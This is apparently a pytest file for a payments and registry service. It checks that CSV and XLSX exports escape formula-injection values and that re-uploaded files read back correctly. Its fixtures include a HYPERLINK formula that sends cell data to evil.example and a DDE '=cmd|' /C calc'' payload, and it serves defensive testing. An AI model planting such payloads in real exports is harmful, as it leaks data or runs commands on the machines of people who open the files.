"""Formula injection (OWASP "CSV injection"): every CSV and XLSX the suite writes is safe to open in a spreadsheet,
and a file downloaded and uploaded again reads the values that were written."""

import csv
import io
import zipfile

import openpyxl
import pytest

from common import tabular
from services.payments.ledger import service as ledger_service
from services.payments.ledger.schemas import Amounts, LedgerTotals, TotalsRow
from services.registry.reports import service as report_service
from services.registry.reports.schemas import BeneficiaryReport, ReportRow, Totals

ATTACK = '=HYPERLINK("http://evil.example/?d="&D2,"Xem")'
DANGEROUS = [ATTACK, "+84 91 234", "-Nguyễn", "@SUM(A1)", "\tTab", "\rCR", "=1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_cell_that_would_start_a_formula_gets_a_quote_and_reads_back_as_entered(value):
    assert tabular.escape(value) == "'" + value
    assert tabular.unescape(tabular.escape(value)) == value


@pytest.mark.parametrize("value", ["Nguyễn Thị Lan", "'quoted", "'", "", "84101", "a=b"])
def test_other_text_and_numbers_are_left_alone(value):
    assert tabular.escape(value) == value
    assert tabular.unescape(value) == value
    assert tabular.escape(-750_000) == -750_000 and tabular.escape(1.5) == 1.5


def test_the_csv_writer_escapes_text_and_keeps_negative_numbers_numbers():
    buffer = io.StringIO()
    tabular.csv_writer(buffer).writerows([["name", "amount"], [ATTACK, -750_000], ["-5", 5]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "amount"], ["'" + ATTACK, "-750000"], ["'-5", "5"]]


def _sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_text_cells_are_strings_never_formulas():
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(tabular.xlsx_row(sheet, [ATTACK, -750_000, "@x", "Lan"]))
    out = io.BytesIO()
    book.save(out)
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml and "<f " not in xml
    assert '<c r="B1" t="n"><v>-750000</v></c>' in xml
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert [c.value for c in read[1]] == ["'" + ATTACK, -750_000, "'@x", "Lan"]
    assert [tabular.text(c.value) for c in read[1]] == [ATTACK, "-750000", "@x", "Lan"]


def test_the_readers_undo_the_prefix():
    assert tabular.text("'=1+1") == "=1+1"
    assert tabular.text("  '-Nguyễn ") == "-Nguyễn"
    assert tabular.text("'Lan") == "'Lan"  # a quote not in front of a formula character is part of the value
    with pytest.raises(tabular.CellError, match="negative"):
        tabular.whole_vnd("'-5")


def test_the_ledger_csv_escapes_text_keys_and_keeps_amounts_numbers():
    row = TotalsRow(key="=cmd|' /C calc'!A0", recovery=-200_000, regular=750_000)
    report = LedgerTotals(year=2026, by="programme", programme=None, rows=[row], total=Amounts(recovery=-200_000))
    rows = list(csv.reader(io.StringIO(ledger_service.as_csv(report).lstrip("\ufeff"))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][3] == "-200000"  # a negative amount stays a number


def test_the_registry_report_csv_escapes_names_and_notes():
    row = ReportRow(
        province_code="84",
        code="84101",
        name="-Xã A",
        beneficiaries=1,
        amount=750_000,
        suspended=0,
        categories={},
        recorded_codes=[],
        note="=HYPERLINK(1)",
    )
    report = BeneficiaryReport(
        month="2026-03",
        by="commune",
        units="2025",
        rows=[row],
        total=Totals(beneficiaries=1, amount=750_000, suspended=0),
    )
    rows = list(csv.reader(io.StringIO(report_service.as_csv(report).lstrip("\ufeff"))))
    assert (rows[1][2], rows[1][7], rows[1][4]) == ("'-Xã A", "'=HYPERLINK(1)", "750000")


async def _chunks(*chunks):
    for chunk in chunks:
        yield chunk


async def test_the_streamed_csv_escapes_text_leaves_numbers_and_writes_none_empty():
    parts = [
        p
        async for p in tabular.csv_stream(
            ["Họ và tên", "Số tiền", "Ghi chú"], _chunks([[ATTACK, -750_000, None]], [["", 5, "-5"]])
        )
    ]
    text = b"".join(parts).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["Họ và tên", "Số tiền", "Ghi chú"], ["'" + ATTACK, "-750000", ""], ["", "5", "'-5"]]


async def test_the_streamed_xlsx_writes_dangerous_text_as_text():
    body = b"".join([p async for p in tabular.xlsx_stream("Danh sách", ["Tên", "Số"], _chunks([[ATTACK, -5]]))])
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    assert [c.value for c in sheet[2]] == ["'" + ATTACK, -5]
    assert sheet["A2"].data_type == "s"
